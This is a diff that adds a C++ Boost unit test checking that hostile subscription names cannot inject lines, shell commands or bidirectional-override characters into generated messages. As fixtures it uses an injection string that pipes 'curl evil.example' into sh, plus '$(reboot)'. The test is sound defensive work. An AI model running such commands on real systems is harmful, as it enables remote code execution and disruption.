@@ -104,4 +104,21 @@ BOOST_AUTO_TEST_CASE(a_disabled_one_in_words)
     BOOST_TEST(text.find("katydid subscriptions resume billing") != std::string::npos);
 }
 
+// Goal: who may name a subscription writes no lines of their own into a message, and nothing that
+// an operator would paste into a shell.
+BOOST_AUTO_TEST_CASE(a_name_is_no_command)
+{
+    for (const std::string name :
+         {"x\n\";curl evil.example|sh;\"", "$(reboot)", "a b", "--url=evil", "\u202Egnp"}) {
+        auto gone = happening(disabled);
+        gone.name = name;
+        const auto said = describe({false, gone, 1}, 1, "");
+        const std::string text{said.at("text").as_string()};
+        BOOST_TEST(text.find("katydid subscriptions resume sub_1\"") != std::string::npos, name);
+        const std::string title{said.at("title").as_string()};
+        BOOST_TEST(title.find('\n') == std::string::npos, name);
+        BOOST_TEST(title.find("\u202E") == std::string::npos, name);
+    }
+}
+
 BOOST_AUTO_TEST_SUITE_END()
